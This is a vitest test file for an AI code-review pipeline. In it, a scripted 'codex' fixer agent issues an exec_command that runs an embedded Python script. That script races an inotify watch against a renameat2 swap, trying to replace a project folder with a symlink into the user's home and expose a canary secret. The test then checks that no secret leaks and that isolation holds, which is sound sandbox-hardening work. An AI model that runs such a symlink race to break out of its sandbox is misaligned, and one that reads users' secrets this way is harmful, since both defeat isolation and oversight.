import { mkdir, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, it } from "vitest";
import { probeOwnJail } from "../world/jail.ts";
import { call } from "../world/models/call.ts";
import { issueOf, reviewAnswer, solvedAnswer, turnOf, voteAnswer } from "./answers.ts";
import { openStage } from "./stage.ts";

const probe = await probeOwnJail();

/** Swaps a folder of the tree with a link to the folder given, each time when somebody reads the folder. */
const swapper = `import ctypes, os, sys, time, select, shutil
c = ctypes.CDLL(None)
number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
def swap(): return c.syscall(number, -100, b"src/d", -100, b"hidden/link", 2)
def make():
    for f in ("hidden", "src"): os.makedirs(f, exist_ok=True)
    if os.path.islink("src/d"): os.unlink("src/d")
    if not os.path.isdir("src/d"): os.makedirs("src/d")
    if not os.path.exists("src/d/canary-secret.txt"):
        open("src/d/canary-secret.txt", "w").write("decoy\\n")
    if not os.path.islink("hidden/link"):
        if os.path.isdir("hidden/link"): shutil.rmtree("hidden/link")
        os.symlink(sys.argv[1], "hidden/link")
print("racing", flush=True)
while True:
    try: make()
    except OSError: time.sleep(0.01); continue
    fd = c.inotify_init(); c.inotify_add_watch(fd, b"src/d", 0x10); seen = 0; end = time.time() + 30
    while time.time() < end and os.path.isdir("src/d") and not os.path.islink("src/d"):
        if not select.select([fd], [], [], 0.05)[0]: continue
        seen += len(os.read(fd, 4096)) // 16
        if seen >= 2: swap(); time.sleep(0.02); swap(); break
    os.close(fd)
`;

/** How many issues are fixed, each with two walks at least. */
const count = 5;
const secret = "canary-value-file-in-home";

it.skipIf(probe.status !== "works")(
  "codex as the fixer leaves a command behind that puts links to HOME in the place of folders, and gets nothing",
  { timeout: 300_000 },
  async () => {
    const issues = Array.from({ length: count }, (_, at) =>
      issueOf({
        file: `src/f${at}.ts`,
        title: `Defect ${at} of`,
        snippet: `export const value${at} = ${at};`,
      }),
    );
    let racing = "";
    await using stage = await openStage({
      base: () => ({ ".gitignore": "hidden/\n" }),
      head: () => ({
        ...Object.fromEntries(
          issues.map((_, at) => [`src/f${at}.ts`, `export const value${at} = ${at};\n`]),
        ),
        "swap.py": swapper,
      }),
      scripts: (opened) => [
        {
          vendor: "anthropic",
          steps: ({ text }) => {
            const turn = turnOf(text);
            if (turn === "vote") return { answer: voteAnswer() };
            return { answer: turn === "confirm" ? solvedAnswer(text) : reviewAnswer(issues) };
          },
        },
        {
          vendor: "openai",
          steps: async ({ toolResults }) => {
            if (toolResults.length > 0) {
              racing ||= toolResults[0]?.text ?? "";
              return { text: "done" };
            }
            if (racing) return { text: "done" };
            const cmd = `python3 swap.py ${opened.scene.home}/project`;
            return { calls: [call("exec_command", { cmd, yield_time_ms: 1500 })] };
          },
        },
      ],
    });
    const project = join(stage.scene.home, "project");
    await mkdir(join(project, ".git"), { recursive: true });
    await writeFile(join(project, ".git", "HEAD"), "ref: refs/heads/main\n");
    const file = join(project, "canary-secret.txt");
    await writeFile(file, `${secret}\n`, { mode: 0o400 });
    const used = await stage.use({
      ...{ reviewers: "claude", fixer: "codex", fix: "suggest", "max-fixes": String(count) },
      ...{ vote: "false", isolation: "required", "check-run": "off" },
    });
    expect(racing).toContain("racing");
    expect(used.step.conclusion).toBe("success");
    expect(used.posted.filter((body) => body.includes(secret))).toEqual([]);
    expect(used.report).not.toContain(secret);
    expect((await stat(join(project, ".git"))).isDirectory()).toBe(true);
    expect((await stat(file)).mode & 0o777).toBe(0o400);
  },
);
